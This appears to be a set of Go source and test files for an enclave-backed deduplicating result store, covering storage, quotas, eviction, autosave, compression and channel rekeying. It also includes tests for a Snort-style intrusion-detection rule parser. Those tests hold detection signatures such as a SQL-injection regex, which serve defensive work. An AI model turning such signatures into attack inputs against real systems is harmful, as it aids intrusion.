		t.Fatal("Get on empty store reported found")
	}

	want := sealedOf("ciphertext blob")
	if _, err := s.Put(ownerOf("app"), tag, want); err != nil {
		t.Fatalf("Put: %v", err)
	}

	got, found, err := s.Get(tag)
	if err != nil {
		t.Fatalf("Get: %v", err)
	}
	if !found {
		t.Fatal("Get after Put reported not found")
	}
	if !bytes.Equal(got.Blob, want.Blob) ||
		!bytes.Equal(got.Challenge, want.Challenge) ||
		!bytes.Equal(got.WrappedKey, want.WrappedKey) {
		t.Errorf("Get = %+v, want %+v", got, want)
	}

	st := s.Stats()
	if st.Gets != 2 || st.Hits != 1 || st.Puts != 1 || st.Entries != 1 {
		t.Errorf("Stats = %+v, want 2 gets, 1 hit, 1 put, 1 entry", st)
	}
}

func TestPutDuplicateKeepsFirst(t *testing.T) {
	s := testStore(t, Config{})
	tag := tagOf("t1")
	first := sealedOf("first version")
	second := sealedOf("second version")

	if _, err := s.Put(ownerOf("a"), tag, first); err != nil {
		t.Fatalf("Put first: %v", err)
	}
	if _, err := s.Put(ownerOf("b"), tag, second); err != nil {
		t.Fatalf("Put duplicate: %v", err)
	}
	got, found, err := s.Get(tag)
	if err != nil || !found {
		t.Fatalf("Get: found=%v err=%v", found, err)
	}
	if !bytes.Equal(got.Blob, first.Blob) {
		t.Errorf("duplicate PUT overwrote the stored version")
	}
	st := s.Stats()
	if st.PutDupes != 1 || st.Entries != 1 {
		t.Errorf("Stats = %+v, want 1 dupe and 1 entry", st)
	}
	// The losing application's quota must have been credited back.
	if got := s.AppBytes(ownerOf("b")); got != 0 {
		t.Errorf("loser AppBytes = %d, want 0", got)
	}
}

func TestPutReplaceOverwrites(t *testing.T) {
	s := testStore(t, Config{})
	tag := tagOf("t")
	if _, err := s.Put(ownerOf("a"), tag, sealedOf("bad version")); err != nil {
		t.Fatalf("Put: %v", err)
	}
	installed, err := s.PutReplace(ownerOf("b"), tag, sealedOf("good version"))
	if err != nil {
		t.Fatalf("PutReplace: %v", err)
	}
	if !installed {
		t.Fatal("PutReplace did not install")
	}
	got, found, err := s.Get(tag)
	if err != nil || !found {
		t.Fatalf("Get: found=%v err=%v", found, err)
	}
	if string(got.Blob) != "good version" {
		t.Errorf("Get blob = %q, want replaced version", got.Blob)
	}
	// Accounting: one entry, old owner credited, replacement not
	// counted as an eviction.
	if s.Len() != 1 {
		t.Errorf("Len = %d, want 1", s.Len())
	}
	if got := s.AppBytes(ownerOf("a")); got != 0 {
		t.Errorf("old owner AppBytes = %d, want 0", got)
	}
	if got := s.Stats().Evictions; got != 0 {
		t.Errorf("Evictions = %d, want 0 (replacement is not an eviction)", got)
	}
}

func TestPutReplaceOnMissingTagBehavesLikePut(t *testing.T) {
	s := testStore(t, Config{})
	installed, err := s.PutReplace(ownerOf("a"), tagOf("fresh"), sealedOf("v"))
	if err != nil || !installed {
		t.Fatalf("PutReplace on missing = (%v, %v)", installed, err)
	}
}

func TestExpiryNotCountedAsEviction(t *testing.T) {
	clock := time.Unix(1000, 0)
	s := testStore(t, Config{TTL: time.Minute, Now: func() time.Time { return clock }})
	if _, err := s.Put(ownerOf("a"), tagOf("t"), sealedOf("v")); err != nil {
		t.Fatalf("Put: %v", err)
	}
	clock = clock.Add(2 * time.Minute)
	if _, found, _ := s.Get(tagOf("t")); found {
		t.Fatal("expired entry served")
	}
	st := s.Stats()
	if st.Expired != 1 || st.Evictions != 0 {
		t.Errorf("Stats = %+v, want Expired=1 Evictions=0", st)
	}
}

func TestBlobStoredOutsideEnclave(t *testing.T) {
	e := testEnclave(t)
	s := testStore(t, Config{Enclave: e})
	blob := make([]byte, 1<<20)
	if _, err := s.Put(ownerOf("a"), tagOf("t"), mle.Sealed{
		Challenge:  []byte("r"),
		WrappedKey: []byte("k"),
		Blob:       blob,
	}); err != nil {
		t.Fatalf("Put: %v", err)
	}
	// The 1 MB ciphertext must not live in the enclave heap: only the
	// small metadata entry does.
	if used := e.HeapUsed(); used > 4096 {
		t.Errorf("enclave heap = %d bytes after storing 1MB blob, want small metadata only", used)
	}
}

func TestQuotaBytesRejected(t *testing.T) {
	s := testStore(t, Config{Quota: QuotaConfig{MaxBytesPerApp: 100}})
	owner := ownerOf("app")
	if _, err := s.Put(owner, tagOf("a"), sealedOf(string(make([]byte, 80)))); err != nil {
		t.Fatalf("Put within quota: %v", err)
	}
	_, err := s.Put(owner, tagOf("b"), sealedOf(string(make([]byte, 80))))
	if !errors.Is(err, ErrQuota) {
		t.Errorf("Put beyond quota = %v, want ErrQuota", err)
	}
	// A different application is unaffected.
	if _, err := s.Put(ownerOf("other"), tagOf("c"), sealedOf(string(make([]byte, 80)))); err != nil {
		t.Errorf("other app Put: %v", err)
	}
	if got := s.Stats().PutDenied; got != 1 {
		t.Errorf("PutDenied = %d, want 1", got)
	}
}

func TestQuotaRateLimit(t *testing.T) {
	now := time.Unix(0, 0)
	clock := func() time.Time { return now }
	s := testStore(t, Config{
		Quota: QuotaConfig{PutRatePerSec: 1, PutBurst: 2},
		Now:   clock,
	})
	owner := ownerOf("flooder")
	put := func(i int) error {
		_, err := s.Put(owner, tagOf(fmt.Sprintf("t%d", i)), sealedOf("x"))
		return err
	}
	if err := put(0); err != nil {
		t.Fatalf("Put 0: %v", err)
	}
	if err := put(1); err != nil {
		t.Fatalf("Put 1 (burst): %v", err)
	}
	if err := put(2); !errors.Is(err, ErrQuota) {
		t.Errorf("Put 2 = %v, want ErrQuota (bucket empty)", err)
	}
	// After one second a token refills.
	now = now.Add(time.Second)
	if err := put(3); err != nil {
		t.Errorf("Put 3 after refill: %v", err)
	}
}

func TestEvictionByMaxEntries(t *testing.T) {
	s := testStore(t, Config{MaxEntries: 3})
	owner := ownerOf("app")
	for i := 0; i < 3; i++ {
		if _, err := s.Put(owner, tagOf(fmt.Sprintf("t%d", i)), sealedOf("blob")); err != nil {
			t.Fatalf("Put %d: %v", i, err)
		}
	}
	// Touch t0 so that t1 becomes the LRU victim.
	if _, found, _ := s.Get(tagOf("t0")); !found {
		t.Fatal("t0 missing before eviction")
	}
	if _, err := s.Put(owner, tagOf("t3"), sealedOf("blob")); err != nil {
		t.Fatalf("Put t3: %v", err)
	}
	if s.Len() != 3 {
		t.Fatalf("Len = %d, want 3", s.Len())
	}
	if _, found, _ := s.Get(tagOf("t1")); found {
		t.Error("LRU entry t1 survived eviction")
	}
	for _, k := range []string{"t0", "t2", "t3"} {
		if _, found, _ := s.Get(tagOf(k)); !found {
			t.Errorf("entry %s was wrongly evicted", k)
		}
	}
	if got := s.Stats().Evictions; got != 1 {
		t.Errorf("Evictions = %d, want 1", got)
	}
}

func TestEvictionByMaxBlobBytes(t *testing.T) {
	s := testStore(t, Config{MaxBlobBytes: 250})
	owner := ownerOf("app")
	for i := 0; i < 3; i++ {
		if _, err := s.Put(owner, tagOf(fmt.Sprintf("t%d", i)), sealedOf(string(make([]byte, 100)))); err != nil {
			t.Fatalf("Put %d: %v", i, err)
		}
	}
	// 300 bytes > 250: the oldest entry must have been evicted.
	if got := s.Len(); got != 2 {
		t.Fatalf("Len = %d, want 2", got)
	}
	if _, found, _ := s.Get(tagOf("t0")); found {
		t.Error("oldest entry survived byte-cap eviction")
	}
	if got := s.cfg.Blobs.Bytes(); got > 250 {
		t.Errorf("blob bytes = %d, want <= 250", got)
	}
}

func TestEvictionReleasesEnclaveMemory(t *testing.T) {
	e := testEnclave(t)
	s := testStore(t, Config{Enclave: e, MaxEntries: 1})
	owner := ownerOf("app")
	if _, err := s.Put(owner, tagOf("a"), sealedOf("x")); err != nil {
		t.Fatalf("Put a: %v", err)
	}
	used := e.HeapUsed()
	if _, err := s.Put(owner, tagOf("b"), sealedOf("y")); err != nil {
		t.Fatalf("Put b: %v", err)
	}
	if got := e.HeapUsed(); got != used {
		t.Errorf("heap after eviction = %d, want %d (steady state)", got, used)
	}
}

func TestMissingBlobTreatedAsMiss(t *testing.T) {
	blobs := NewMemBlobStore()
	s := testStore(t, Config{Blobs: blobs})
	tag := tagOf("t")
	if _, err := s.Put(ownerOf("a"), tag, sealedOf("blob")); err != nil {
		t.Fatalf("Put: %v", err)
	}
	// Simulate untrusted storage losing the blob.
	if err := blobs.Delete(BlobID(1)); err != nil {
		t.Fatalf("Delete: %v", err)
	}
	_, found, err := s.Get(tag)
	if err != nil {
		t.Fatalf("Get: %v", err)
	}
	if found {
		t.Error("Get reported found despite missing blob")
	}
	// The dangling dictionary entry must have been dropped.
	if s.Len() != 0 {
		t.Errorf("Len = %d, want 0 after dangling entry cleanup", s.Len())
	}
}

func TestClose(t *testing.T) {
	s := testStore(t, Config{})
	s.Close()
	if _, _, err := s.Get(tagOf("t")); !errors.Is(err, ErrClosed) {
		t.Errorf("Get after Close = %v, want ErrClosed", err)
	}
	if _, err := s.Put(ownerOf("a"), tagOf("t"), sealedOf("x")); !errors.Is(err, ErrClosed) {
		t.Errorf("Put after Close = %v, want ErrClosed", err)
	}
}

func TestConcurrentPutGet(t *testing.T) {
	s := testStore(t, Config{})
	var wg sync.WaitGroup
	const workers = 8
	const perWorker = 50
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			owner := ownerOf(fmt.Sprintf("app%d", w))
			for i := 0; i < perWorker; i++ {
				tag := tagOf(fmt.Sprintf("shared-%d", i))
				if _, err := s.Put(owner, tag, sealedOf(fmt.Sprintf("blob-%d", i))); err != nil {
					t.Errorf("Put: %v", err)
					return
				}
				got, found, err := s.Get(tag)
				if err != nil || !found {
					t.Errorf("Get: found=%v err=%v", found, err)
					return
				}
				if want := fmt.Sprintf("blob-%d", i); string(got.Blob) != want {
					t.Errorf("Get blob = %q, want %q", got.Blob, want)
					return
				}
			}
		}(w)
	}
	wg.Wait()
	if got := s.Len(); got != perWorker {
		t.Errorf("Len = %d, want %d (duplicates deduplicated)", got, perWorker)
	}
}

func TestExportFiltersByHits(t *testing.T) {
	s := testStore(t, Config{})
	owner := ownerOf("app")
	if _, err := s.Put(owner, tagOf("cold"), sealedOf("c")); err != nil {
		t.Fatalf("Put: %v", err)
	}
	if _, err := s.Put(owner, tagOf("hot"), sealedOf("h")); err != nil {
		t.Fatalf("Put: %v", err)
	}
	for i := 0; i < 3; i++ {
		if _, found, _ := s.Get(tagOf("hot")); !found {
			t.Fatal("hot entry missing")
		}
	}
	entries, err := s.Export(2)
	if err != nil {
		t.Fatalf("Export: %v", err)
	}
	if len(entries) != 1 || entries[0].Tag != tagOf("hot") {
		t.Errorf("Export = %d entries, want only the hot tag", len(entries))
	}
	if string(entries[0].Sealed.Blob) != "h" {
		t.Errorf("Export blob = %q, want %q", entries[0].Sealed.Blob, "h")
	}
}
