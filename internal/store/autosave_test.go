package store

import (
	"os"
	"path/filepath"
	"testing"
	"time"

	"speed/internal/enclave"
)

// TestAutosaveCrashRestart is the crash/restart round trip: the store
// is populated, autosaved, and then abandoned without any shutdown
// snapshot (the SIGKILL case). A fresh store on the same machine and
// store code restores the autosave file and serves the warm dictionary.
func TestAutosaveCrashRestart(t *testing.T) {
	path := filepath.Join(t.TempDir(), "store.snap")

	p := enclave.NewPlatform(enclave.Config{PlatformSeed: []byte("machine-A")})
	enc, err := p.Create("store-1", []byte("store code v1"))
	if err != nil {
		t.Fatalf("Create: %v", err)
	}
	s1, err := New(Config{Enclave: enc})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	owner := ownerOf("app")
	for _, k := range []string{"a", "b", "c"} {
		if _, err := s1.Put(owner, tagOf(k), sealedOf("blob-"+k)); err != nil {
			t.Fatalf("Put(%s): %v", k, err)
		}
	}

	saver := NewAutosaver(s1, path, 5*time.Millisecond, t.Logf)
	saver.Start()
	deadline := time.Now().Add(5 * time.Second)
	for saver.Saves() == 0 {
		if time.Now().After(deadline) {
			t.Fatal("autosaver never saved")
		}
		time.Sleep(time.Millisecond)
	}

	// A write after the last periodic save may or may not survive the
	// crash; force one more save so the test is deterministic about
	// what the file contains.
	if _, err := s1.Put(owner, tagOf("d"), sealedOf("blob-d")); err != nil {
		t.Fatalf("Put(d): %v", err)
	}
	saver.Stop()
	if err := saver.SaveOnce(); err != nil {
		t.Fatalf("SaveOnce: %v", err)
	}

	// Crash: simulate SIGKILL mid-write of the NEXT save — a torn temp
	// file exists, the store is never closed, no shutdown snapshot runs.
	if err := os.WriteFile(path+".tmp", []byte("torn partial write"), 0o600); err != nil {
		t.Fatalf("write torn tmp: %v", err)
	}

	// Restart: same machine (same platform seed), same store code.
	p2 := enclave.NewPlatform(enclave.Config{PlatformSeed: []byte("machine-A")})
	enc2, err := p2.Create("store-1", []byte("store code v1"))
	if err != nil {
		t.Fatalf("Create: %v", err)
	}
	s2, err := New(Config{Enclave: enc2})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	snap, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read autosave: %v", err)
	}
	n, err := s2.RestoreSnapshot(snap)
	if err != nil {
		t.Fatalf("RestoreSnapshot: %v", err)
	}
	if n != 4 {
		t.Errorf("restored %d entries, want 4", n)
	}
	for _, k := range []string{"a", "b", "c", "d"} {
		got, found, err := s2.Get(tagOf(k))
		if err != nil || !found {
			t.Fatalf("restored Get(%s) = (%v, %v)", k, found, err)
		}
		if string(got.Blob) != "blob-"+k {
			t.Errorf("restored blob(%s) = %q", k, got.Blob)
		}
	}
}

// TestAutosaveAtomicReplace checks that repeated saves replace the file
// atomically: each save yields a complete, restorable snapshot and no
// stale temp file is left behind.
func TestAutosaveAtomicReplace(t *testing.T) {
	path := filepath.Join(t.TempDir(), "store.snap")
	p := enclave.NewPlatform(enclave.Config{PlatformSeed: []byte("machine-B")})
	enc, err := p.Create("store-1", []byte("store code v1"))
	if err != nil {
		t.Fatalf("Create: %v", err)
	}
	st, err := New(Config{Enclave: enc})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	saver := NewAutosaver(st, path, time.Hour, nil)
	owner := ownerOf("app")
	for i, k := range []string{"x", "y", "z"} {
		if _, err := st.Put(owner, tagOf(k), sealedOf("blob-"+k)); err != nil {
			t.Fatalf("Put(%s): %v", k, err)
		}
		if err := saver.SaveOnce(); err != nil {
			t.Fatalf("SaveOnce #%d: %v", i+1, err)
		}
		if _, err := os.Stat(path + ".tmp"); !os.IsNotExist(err) {
			t.Errorf("save #%d left a temp file behind", i+1)
		}
	}
	if saver.Saves() != 3 {
		t.Errorf("Saves() = %d, want 3", saver.Saves())
	}

	p2 := enclave.NewPlatform(enclave.Config{PlatformSeed: []byte("machine-B")})
	enc2, err := p2.Create("store-1", []byte("store code v1"))
	if err != nil {
		t.Fatalf("Create: %v", err)
	}
	s2, err := New(Config{Enclave: enc2})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	snap, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read autosave: %v", err)
	}
	if n, err := s2.RestoreSnapshot(snap); err != nil || n != 3 {
		t.Fatalf("RestoreSnapshot = (%d, %v), want (3, nil)", n, err)
	}
}
