package pattern

import (
	"bytes"
	"errors"
	"reflect"
	"strings"
	"testing"
)

func TestParseRuleBasic(t *testing.T) {
	line := `alert tcp any any -> any 80 (msg:"WEB admin access"; content:"GET"; nocase; content:"/admin"; pcre:"/admin[a-z]*\.php/i"; sid:1000001;)`
	rule, err := ParseRuleString(line)
	if err != nil {
		t.Fatalf("ParseRuleString: %v", err)
	}
	want := Rule{
		ID:         1000001,
		Name:       "WEB admin access",
		Contents:   [][]byte{[]byte("GET"), []byte("/admin")},
		NoCase:     true,
		PCRE:       `admin[a-z]*\.php`,
		PCRENoCase: true,
	}
	if !reflect.DeepEqual(rule, want) {
		t.Errorf("rule = %+v, want %+v", rule, want)
	}
}

func TestParseRuleHexContent(t *testing.T) {
	line := `alert tcp any any -> any any (msg:"binary marker"; content:"|DE AD BE EF|tail"; sid:7;)`
	rule, err := ParseRuleString(line)
	if err != nil {
		t.Fatalf("ParseRuleString: %v", err)
	}
	want := []byte{0xDE, 0xAD, 0xBE, 0xEF, 't', 'a', 'i', 'l'}
	if !bytes.Equal(rule.Contents[0], want) {
		t.Errorf("content = %x, want %x", rule.Contents[0], want)
	}
}

func TestParseRulePureRegex(t *testing.T) {
	line := `alert tcp any any -> any any (msg:"sqli"; pcre:"/union\s+select/i"; sid:9;)`
	rule, err := ParseRuleString(line)
	if err != nil {
		t.Fatalf("ParseRuleString: %v", err)
	}
	if len(rule.Contents) != 0 || rule.PCRE == "" || !rule.PCRENoCase {
		t.Errorf("rule = %+v", rule)
	}
}

func TestParseRuleIgnoredOptions(t *testing.T) {
	line := `alert tcp any any -> any any (msg:"x"; content:"abc"; classtype:web-application-attack; rev:3; sid:5;)`
	if _, err := ParseRuleString(line); err != nil {
		t.Errorf("ParseRuleString with ignored options: %v", err)
	}
}

func TestParseRuleErrors(t *testing.T) {
	tests := []struct {
		name string
		line string
	}{
		{"no parens", `alert tcp any any -> any any msg:"x"; sid:5;`},
		{"bad action", `block tcp any any -> any any (content:"x"; sid:1;)`},
		{"short header", `alert tcp any -> any (content:"x"; sid:1;)`},
		{"no direction", `alert tcp any any !! any any (content:"x"; sid:1;)`},
		{"missing sid", `alert tcp any any -> any any (content:"x";)`},
		{"bad sid", `alert tcp any any -> any any (content:"x"; sid:abc;)`},
		{"no content or pcre", `alert tcp any any -> any any (msg:"x"; sid:1;)`},
		{"empty content", `alert tcp any any -> any any (content:""; sid:1;)`},
		{"nocase first", `alert tcp any any -> any any (nocase; content:"x"; sid:1;)`},
		{"bad hex", `alert tcp any any -> any any (content:"|ZZ|"; sid:1;)`},
		{"unterminated hex", `alert tcp any any -> any any (content:"|41"; sid:1;)`},
		{"bad pcre wrapper", `alert tcp any any -> any any (pcre:"no-slashes"; sid:1;)`},
		{"bad pcre flag", `alert tcp any any -> any any (pcre:"/a/q"; sid:1;)`},
		{"unknown option", `alert tcp any any -> any any (content:"x"; frobnicate:yes; sid:1;)`},
		{"unterminated quote", `alert tcp any any -> any any (msg:"x; sid:1;)`},
	}
	for _, tt := range tests {
		if _, err := ParseRuleString(tt.line); err == nil {
			t.Errorf("%s: accepted invalid rule", tt.name)
		}
	}
}

func TestParseRulesFile(t *testing.T) {
	text := `
# Community rules excerpt
alert tcp any any -> any 80 (msg:"one"; content:"aaa"; sid:1;)

alert tcp any any -> any 443 (msg:"two"; \
    content:"bbb"; \
    sid:2;)
# comment between rules
alert udp any any -> any 53 (msg:"three"; pcre:"/ccc+/"; sid:3;)
`
	rules, err := ParseRules(strings.NewReader(text))
	if err != nil {
		t.Fatalf("ParseRules: %v", err)
	}
	if len(rules) != 3 {
		t.Fatalf("parsed %d rules, want 3", len(rules))
	}
	if rules[1].ID != 2 || string(rules[1].Contents[0]) != "bbb" {
		t.Errorf("continued rule parsed wrong: %+v", rules[1])
	}
	// The parsed set must compile and match.
	rs, err := CompileRules(rules)
	if err != nil {
		t.Fatalf("CompileRules: %v", err)
	}
	if got := rs.Scan([]byte("xx bbb yy ccccc")); !reflect.DeepEqual(got, []int{2, 3}) {
		t.Errorf("Scan = %v, want [2 3]", got)
	}
}

func TestParseRulesReportsLineNumber(t *testing.T) {
	text := "alert tcp any any -> any 80 (content:\"ok\"; sid:1;)\n\nbroken rule here\n"
	_, err := ParseRules(strings.NewReader(text))
	var pe *ParseError
	if !errors.As(err, &pe) {
		t.Fatalf("error = %v, want *ParseError", err)
	}
	if pe.Line != 3 {
		t.Errorf("error line = %d, want 3", pe.Line)
	}
}

func TestFormatRuleRoundTrip(t *testing.T) {
	rules := []Rule{
		{ID: 1, Name: "plain", Contents: [][]byte{[]byte("hello")}},
		{ID: 2, Name: "folded", Contents: [][]byte{[]byte("GET"), []byte("/x")}, NoCase: true},
		{ID: 3, Name: "regex", Contents: [][]byte{[]byte("a")}, PCRE: `a\d+`, PCRENoCase: true},
		{ID: 4, Name: "binary", Contents: [][]byte{{0x00, 0xFF, 0x41}}},
	}
	for _, r := range rules {
		text := FormatRule(r)
		got, err := ParseRuleString(text)
		if err != nil {
			t.Errorf("rule %d: reparse %q: %v", r.ID, text, err)
			continue
		}
		if !reflect.DeepEqual(got, r) {
			t.Errorf("rule %d round trip:\n got %+v\nwant %+v\ntext %s", r.ID, got, r, text)
		}
	}
}

func TestFormatParseGeneratedRules(t *testing.T) {
	// Every rule the workload generator can produce must round-trip
	// through the text format. (The generator lives in another
	// package; emulate its shapes here.)
	rules := []Rule{
		{ID: 1_000_000, Name: "SYNTH rule 0", Contents: [][]byte{[]byte("abc123_/-.")}},
		{ID: 1_000_001, Name: "SYNTH rule 1", Contents: [][]byte{[]byte("x")}, NoCase: true,
			PCRE: `x[a-z0-9]{0,8}`},
	}
	var b strings.Builder
	for _, r := range rules {
		b.WriteString(FormatRule(r))
		b.WriteByte('\n')
	}
	got, err := ParseRules(strings.NewReader(b.String()))
	if err != nil {
		t.Fatalf("ParseRules: %v", err)
	}
	if !reflect.DeepEqual(got, rules) {
		t.Errorf("round trip mismatch:\n got %+v\nwant %+v", got, rules)
	}
}
