// Package engine defines the storage-engine seam behind store.Store:
// the pluggable backend that holds the dictionary of sealed results.
//
// The Store above the seam is engine-neutral policy — authorization,
// quotas, TTL policy, oblivious-access configuration, telemetry and
// snapshot orchestration — while an Engine owns the data: where
// records live (RAM, disk), how they are found, and what survives a
// crash. Two engines implement the interface:
//
//   - the memory engine (store.memEngine): the original lock-striped
//     sharded map with global LRU, volatile;
//   - the log engine (internal/store/logengine): an append-only WAL of
//     sealed records plus immutable sorted segments, durable and
//     larger than RAM.
//
// Trust model: engines may move bytes onto untrusted media, but only
// sealed bytes (enclave-authenticated ciphertext) ever leave the trust
// boundary. Plaintext key material (challenges, wrapped keys) exists
// only inside enclave memory; an engine that persists it must seal it
// first and must treat anything read back as hostile until it
// authenticates.
package engine

import (
	"errors"
	"time"

	"speed/internal/enclave"
	"speed/internal/mle"
)

// ErrClosed is returned by engine operations after Close. store.Store
// re-exports it as store.ErrClosed, so the message keeps the store
// prefix the public API always had.
var ErrClosed = errors.New("store: closed")

// Record is the unit an engine stores per tag: the small dictionary
// metadata (challenge r and wrapped key [k], Section IV-B) together
// with the result ciphertext and the bookkeeping the Store's policy
// layers need (owner for quota attribution, hits for popularity
// export, last touch for LRU and TTL).
type Record struct {
	// Challenge and WrappedKey are the in-enclave dictionary fields.
	Challenge  []byte
	WrappedKey []byte
	// Blob is the result ciphertext. Engines keep it outside enclave
	// memory accounting (it is AEAD ciphertext). May be nil on records
	// returned by Remove; BlobSize is always valid.
	Blob []byte
	// BlobSize is len(Blob) at insert time, kept so Remove can report
	// the freed bytes without re-reading the value.
	BlobSize int64
	// Owner is the attested measurement of the application that stored
	// the record, charged for its quota bytes.
	Owner enclave.Measurement
	// Hits counts positive lookups. Durable engines may persist hit
	// counts lazily (see the logengine package doc).
	Hits int64
	// LastTouch is the store time of the last Put or non-oblivious hit,
	// driving LRU eviction and TTL expiry.
	LastTouch time.Time
}

// GetStatus reports how a lookup resolved.
type GetStatus int

const (
	// StatusMiss: no live record for the tag.
	StatusMiss GetStatus = iota
	// StatusHit: the record was found and is returned.
	StatusHit
	// StatusExpired: a record exists but is past its TTL. The engine
	// does not remove it; the caller decides (store.Store removes it
	// and counts an expiry).
	StatusExpired
	// StatusDangling: dictionary metadata exists but the value is lost
	// or failed authentication (untrusted storage misbehaving). The
	// caller should remove the entry and treat the lookup as a miss.
	StatusDangling
)

// Stats is a point-in-time snapshot of engine occupancy and activity.
// The memory engine fills only Entries/ValueBytes; the log engine
// fills everything.
type Stats struct {
	// Entries is the number of live records.
	Entries int
	// ValueBytes is the total ciphertext bytes of live records.
	ValueBytes int64

	// WALBytes is the current write-ahead-log length.
	WALBytes int64
	// WALRecords counts records appended to the WAL since open.
	WALRecords int64
	// Flushes counts memtable-to-segment flushes.
	Flushes int64
	// Compactions counts completed segment merges.
	Compactions int64
	// Segments is the current immutable segment count.
	Segments int
	// SegmentBytes is the total on-disk segment size.
	SegmentBytes int64
	// CacheHits / CacheMisses count lookups served from the in-memory
	// tier (memtable or hot cache) vs lookups that had to touch disk.
	CacheHits   int64
	CacheMisses int64
	// Replayed is the number of WAL records recovered at open.
	Replayed int64
	// TornTails counts truncated WAL tails observed at open (0 or 1
	// per recovery, cumulative across reopens of this process).
	TornTails int64
}

// Engine is the pluggable storage backend behind store.Store. All
// methods must be safe for concurrent use.
//
// Engines own enclave memory accounting for whatever structures they
// keep inside the trust boundary (dictionary entries, memtables,
// indexes) via the enclave handle they are constructed with, so the
// simulated EPC pressure tracks the engine actually in use.
type Engine interface {
	// Name identifies the engine ("memory", "log") for telemetry
	// labels and operator output.
	Name() string
	// Durable reports whether acknowledged inserts survive a crash.
	// The Store uses it to decide snapshot-vs-checkpoint semantics
	// (see store.Autosaver).
	Durable() bool

	// Get looks the tag up. On StatusHit the returned Record's byte
	// slices are owned by the caller (engines copy out). Engines
	// configured oblivious perform access-pattern-uniform lookups over
	// their in-enclave structures and skip recency maintenance.
	Get(tag mle.Tag) (Record, GetStatus, error)
	// Contains reports whether a live record exists for the tag without
	// returning it. Unlike Get it must not count a hit, refresh recency
	// or touch LRU state — it answers existence probes (chunked dedup's
	// missing-chunk transfer) that should leave popularity signals
	// untouched. The answer is a hint: engines may report a TTL-stale
	// record as present (the log engine's index ignores TTL) and callers
	// must tolerate a later Get missing.
	Contains(tag mle.Tag) (bool, error)
	// Insert stores rec under tag if no live record exists. It returns
	// (false, nil) when the tag is already present (first version
	// wins, Section IV-B Remark). The engine copies what it keeps; the
	// caller's slices are not retained.
	Insert(tag mle.Tag, rec Record) (installed bool, err error)
	// Remove deletes the tag's record, returning it (Blob may be nil;
	// BlobSize and Owner are always set) so the caller can settle
	// quota accounting.
	Remove(tag mle.Tag) (Record, bool, error)

	// Len reports the number of live records.
	Len() int
	// ValueBytes reports the total ciphertext bytes of live records.
	ValueBytes() int64
	// Iterate streams every live record to fn until fn returns false.
	// It is a bounded iterator: engines must not materialize the whole
	// keyspace (memory use is O(one shard) for the memory engine and
	// O(one record + per-segment cursors) for the log engine), so
	// hot-export and snapshots work on stores larger than RAM.
	// Iteration order is unspecified. fn must not call back into the
	// engine.
	Iterate(fn func(tag mle.Tag, rec Record) bool) error
	// Oldest reports the least-recently-touched live tag, the victim
	// the Store's global LRU eviction removes under MaxEntries /
	// MaxBlobBytes pressure. May be expensive on durable engines.
	Oldest() (mle.Tag, bool)

	// Stats snapshots engine occupancy and activity counters.
	Stats() Stats
	// Checkpoint makes every acknowledged insert durable (flush +
	// fsync); a no-op for volatile engines.
	Checkpoint() error
	// Close releases the engine's resources. Operations after Close
	// return ErrClosed. Durable engines flush before closing.
	Close() error
}
