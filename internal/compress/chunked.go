package compress

import (
	"io"

	"speed/internal/chunk"
)

// ChunkingWriter couples the streaming compressor to a content-defined
// chunker: bytes written to it are compressed block by block and the
// compressed stream is split into FastCDC chunks incrementally, so a
// large result can be compressed and chunk-emitted with bounded memory
// — neither the full plaintext nor the full compressed output is ever
// materialized. The emitted chunks concatenate to exactly the stream a
// plain Writer would have produced, so chunk boundaries (and therefore
// chunk tags) are stable for identical inputs.
type ChunkingWriter struct {
	w  *Writer
	cs *chunk.Stream
}

var _ io.WriteCloser = (*ChunkingWriter)(nil)

// NewChunkingWriter builds a chunking compressor over emit, which
// receives each compressed chunk as it is cut. The chunk slice is only
// valid during the call, exactly like chunk.Stream's contract. Uses the
// default stream block size.
func NewChunkingWriter(c *chunk.Chunker, emit func(chunk []byte) error) *ChunkingWriter {
	return NewChunkingWriterSize(c, emit, DefaultBlockSize)
}

// NewChunkingWriterSize is NewChunkingWriter with an explicit
// uncompressed block size for the inner compressed stream.
func NewChunkingWriterSize(c *chunk.Chunker, emit func(chunk []byte) error, blockSize int) *ChunkingWriter {
	cs := c.NewStream(emit)
	return &ChunkingWriter{w: NewWriterSize(cs, blockSize), cs: cs}
}

// Write implements io.Writer over the plaintext.
func (cw *ChunkingWriter) Write(p []byte) (int, error) {
	return cw.w.Write(p)
}

// Close flushes the final compressed block, the stream terminator, and
// the final short chunk. It does not close anything underlying emit.
func (cw *ChunkingWriter) Close() error {
	if err := cw.w.Close(); err != nil {
		return err
	}
	return cw.cs.Close()
}
