package wire

import (
	"bytes"
	"fmt"
	"net"
	"testing"

	"speed/internal/enclave"
)

// rekeyPair builds a channel pair with a small rekey interval for
// testing the ratchet.
func rekeyPair(t *testing.T, every uint64) (*Channel, *Channel) {
	t.Helper()
	p := enclave.NewPlatform(enclave.Config{})
	app, _ := p.Create("app", []byte("app code"))
	st, _ := p.Create("store", []byte("store code"))
	client, server := handshakePair(t, p, app, st, nil)
	client.rekeyEvery = every
	server.rekeyEvery = every
	return client, server
}

func TestChannelRekeyTransparent(t *testing.T) {
	client, server := rekeyPair(t, 8)
	defer client.Close()

	// Send well past several rekey boundaries in both directions.
	const n = 50
	errCh := make(chan error, 1)
	go func() {
		for i := 0; i < n; i++ {
			msg, err := server.Recv()
			if err != nil {
				errCh <- fmt.Errorf("server recv %d: %w", i, err)
				return
			}
			if want := fmt.Sprintf("c2s-%d", i); string(msg) != want {
				errCh <- fmt.Errorf("server got %q, want %q", msg, want)
				return
			}
			if err := server.Send([]byte(fmt.Sprintf("s2c-%d", i))); err != nil {
				errCh <- fmt.Errorf("server send %d: %w", i, err)
				return
			}
		}
		errCh <- nil
	}()
	for i := 0; i < n; i++ {
		if err := client.Send([]byte(fmt.Sprintf("c2s-%d", i))); err != nil {
			t.Fatalf("client send %d: %v", i, err)
		}
		msg, err := client.Recv()
		if err != nil {
			t.Fatalf("client recv %d: %v", i, err)
		}
		if want := fmt.Sprintf("s2c-%d", i); string(msg) != want {
			t.Fatalf("client got %q, want %q", msg, want)
		}
	}
	if err := <-errCh; err != nil {
		t.Fatal(err)
	}
}

